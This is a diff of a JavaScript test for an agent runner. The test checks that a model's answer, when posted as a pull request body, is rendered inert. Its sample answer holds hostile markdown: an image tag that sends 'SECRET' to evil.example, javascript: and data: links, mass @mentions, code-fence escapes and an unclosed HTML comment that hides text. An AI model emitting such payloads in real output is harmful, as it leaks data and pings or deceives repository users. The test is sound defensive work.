@@ -5,8 +5,8 @@ import { micromark } from 'micromark';
 import { gfm, gfmHtml } from 'micromark-extension-gfm';
 import { startFakeGitHub } from '../../support/fake-github/fake-github.js';
 import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
-import { OWNER, REPO, githubEnv, headSha, settle, trackedFiles } from './github-helpers.js';
-import { makeRepo, runAction } from './harness.js';
+import { githubEnv, headSha, trackedFiles, WRITABLE_REPO, settledRepo } from './github-helpers.js';
+import { runAction } from './harness.js';
 import { call, turn } from '../support/scripted-turns.js';
 
 /**
@@ -22,18 +22,25 @@ after(async () => {
 
 describe('the pull request the runner opens', () => {
   it("holds the model's answer inert: no image, no mention, no HTML comment", async () => {
-    const workspace = makeRepo();
-    settle(workspace);
+    const { workspace } = settledRepo();
     const fake = await startFakeGitHub({
-      owner: OWNER,
-      repo: REPO,
-      permissions: { [OWNER]: 'write' },
+      ...WRITABLE_REPO,
       baseCommitSha: headSha(workspace),
       baseFiles: trackedFiles(workspace),
       pulls: [],
     });
     open.push(fake);
-    const answer = 'Done <img src="https://evil.example/?d=SECRET"> cc @octo-org/security-team and _@someone_\n<!-- the rest is hidden';
+    // The classes of issue 34 (test/security/posted-surfaces.test.ts), the HTML comment that hides the rest last.
+    const img = '<img src="https://evil.example/?d=SECRET">';
+    const answer = [
+      `Done ${img} cc @octo-org/security-team and _@someone_ &#64;entity-team`,
+      `see \\\`${img} @octo-org/security-team\``,
+      `\`\`\`\nx\n  \`\`\`\n${img}\n\n@octo-org/security-team\n\`\`\``,
+      `    \`\`\`\n${img} @octo-org/security-team\n\`\`\``,
+      `\`\`\`js\`x\n${img} @octo-org/security-team\n\`\`\``,
+      '<javascript:alert(1)> [x](data:text/html,x)',
+      '<!-- the rest is hidden',
+    ].join('\n\n');
     const model = await startScriptedModel([
       turn(call('Write', { file_path: path.join(workspace, 'notes.txt'), content: 'x\n' })),
       { content: [{ type: 'text', text: answer }] },
@@ -48,12 +55,13 @@ describe('the pull request the runner opens', () => {
     const body = [...fake.state.pulls.values()][0]?.body ?? '';
     const html = micromark(body, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
     assert.doesNotMatch(html, /<img\b/i, body);
+    assert.doesNotMatch(html, /href="(?!https?:|mailto:|#)/, body);
     assert.equal(
       (html.match(/<!--/g) ?? []).length,
       body.startsWith('<!-- agent-runner:maintenance -->') ? 1 : 0,
       `only the runner's own marker opens an HTML comment\n${body}`,
     );
-    const text = html.replace(/<code>[\s\S]*?<\/code>/g, ' ').replace(/<[^>]+>/g, ' ');
+    const text = html.replace(/<code\b[^>]*>[\s\S]*?<\/code>/g, ' ').replace(/<[^>]+>/g, ' ');
     assert.doesNotMatch(text, /(?<![\w\u200b])@[\w-]+/, body);
     assert.match(body, /evil\.example/, 'the text is still there, as text');
     assert.match(body, /Opened by Agent Runner|\| Result \| Cost/, "the runner's own part follows");
